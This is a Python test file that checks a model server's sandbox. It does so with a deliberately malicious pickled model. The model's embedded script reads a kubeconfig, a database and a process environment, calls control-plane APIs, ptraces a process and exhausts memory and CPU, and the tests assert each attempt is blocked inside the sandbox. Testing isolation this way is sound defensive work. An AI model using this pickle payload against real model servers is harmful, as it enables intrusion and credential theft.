"""What a malicious model reaches from its worker: the real control plane on its port, the gateway, the data folder, other
processes, more memory and more time than it may have. Each attempt first succeeds without the sandbox."""
import pickle
import sys
import threading
import urllib.request
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from model_server import VENV, ModelServer  # noqa: E402

EVIL = '''
import ctypes, json, os, socket, subprocess, time, urllib.request

def namespaces(url, folder, pid):
    return json.load(urllib.request.urlopen(url + "/api/v1/namespaces", timeout=5))["kind"]

def track(url, folder, pid):
    body = json.dumps({"name": "planted-%d" % time.time_ns()}).encode()
    return "experiment_id" in urllib.request.urlopen(urllib.request.Request(url + "/api/2.0/mlflow/experiments/create", body,
                                                                            {"Content-Type": "application/json"}), timeout=5).read().decode()

def admin(url, folder, pid):
    peer = socket.socket(socket.AF_UNIX)
    peer.connect(folder + "/gateway/admin")
    return "connected"

def processes(url, folder, pid):
    return "many" if len([p for p in os.listdir("/proc") if p.isdigit()]) > 12 else "few"

def trace(url, folder, pid):
    child = subprocess.Popen(["/bin/sleep", "5"])
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, child.pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(child.pid, 0)
    libc.ptrace(17, child.pid, 0, 0)
    child.kill()
    return "traced"

def memory(url, folder, pid):
    block = bytearray(1200 << 20)
    return "allocated"

ATTACKS = {
    "namespaces": namespaces, "track": track, "admin": admin, "processes": processes, "trace": trace, "memory": memory,
    "database": lambda url, folder, pid: open(folder + "/store.db", "rb").read(15).decode(),
    "kubeconfig": lambda url, folder, pid: "current-context" in open(folder + "/kubeconfig").read(),
    "environment": lambda url, folder, pid: "PATH" in open("/proc/%d/environ" % pid).read(),
    "home": lambda url, folder, pid: "listed" if os.listdir(os.path.dirname(folder)) else "",
    "spin": lambda url, folder, pid: any(iter(int, 1)),
    "hello": lambda url, folder, pid: "hello",
}

class Model:
    def predict(self, data):
        word, url, folder, pid = [str(item) for item in data]
        try:
            return [str(ATTACKS[word](url, folder, int(pid)))]
        except BaseException as error:
            return ["blocked: " + type(error).__name__]

def make():
    return Model()
'''


class Evil:
    def __reduce__(self):
        return eval, (f"(lambda space: (exec({EVIL!r}, space), space['make']())[1])({{}})",)


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    folder = tmp_path_factory.mktemp("reach")
    for parent in (folder, folder.parent):
        parent.chmod(0o755)
    (folder / "model.pkl").write_bytes(pickle.dumps(Evil()))
    return folder


@pytest.fixture(scope="module")
def workers(model, tmp_path_factory):
    logs = tmp_path_factory.mktemp("logs")
    started = {True: ModelServer(model, logs / "in", "--environment", VENV, "--worker-memory-mib", 1024),
               False: ModelServer(model, logs / "out", "--environment", VENV, "--no-sandbox", "--worker-memory-mib", 8192)}
    for worker in started.values():
        worker.wait_until_ready()
    yield started
    for worker in started.values():
        worker.stop()


def attack(worker, server, word):
    data = [word, server.url, str(server.folder), str(server.process.pid)]
    status, body = worker.infer({"inputs": [{"name": "x", "shape": [4], "datatype": "BYTES", "data": data}]})
    assert status == 200, body
    return body["outputs"][0]["data"][0]


@pytest.mark.parametrize("word, succeeds", [
    ("namespaces", "NamespaceList"), ("track", "True"), ("admin", "connected"), ("database", "SQLite format 3"), ("kubeconfig", "True"),
    ("environment", "True"), ("trace", "traced"), ("home", "listed"), ("memory", "allocated"),
])
def test_reached_without_the_sandbox_and_blocked_in_it(workers, server, word, succeeds):
    assert attack(workers[False], server, word) == succeeds
    got = attack(workers[True], server, word)
    assert got.startswith("blocked: "), got
    assert attack(workers[True], server, "hello") == "hello"


def test_it_sees_no_processes_but_its_own(workers, server):
    assert attack(workers[False], server, "processes") == "many"
    assert attack(workers[True], server, "processes") == "few"


def test_nothing_was_planted(workers, server):
    def planted():
        return urllib.request.urlopen(server.url + "/api/2.0/mlflow/experiments/search?max_results=100").read().count(b"planted-")

    before = planted()
    assert attack(workers[False], server, "track") == "True" and planted() == before + 1
    assert attack(workers[True], server, "track").startswith("blocked: ") and planted() == before + 1


def test_a_spinning_model_goes_on_without_limits_and_is_ended_by_them(model, server, tmp_path):
    free = ModelServer(model, tmp_path / "free", "--environment", VENV, "--no-sandbox", "--request-seconds", 600).wait_until_ready()
    bound = ModelServer(model, tmp_path / "bound", "--environment", VENV, "--request-seconds", 2).wait_until_ready()
    data = {"inputs": [{"name": "x", "shape": [4], "datatype": "BYTES", "data": ["spin", server.url, str(server.folder), "1"]}]}
    answered = threading.Event()

    def ask_free():
        try:
            free.infer(data)
            answered.set()
        except OSError:  # the server was stopped while it spun
            pass

    thread = threading.Thread(target=ask_free)
    thread.start()
    status, body = bound.infer(data)
    assert status == 504 and "did not answer within 2 s" in body["error"]
    assert attack(bound.wait_until_ready(), server, "hello") == "hello"
    assert not answered.is_set()  # three seconds later it still spins
    free.process.kill()
    free.process.wait()
    thread.join(timeout=20)
    assert bound.stop() == 0
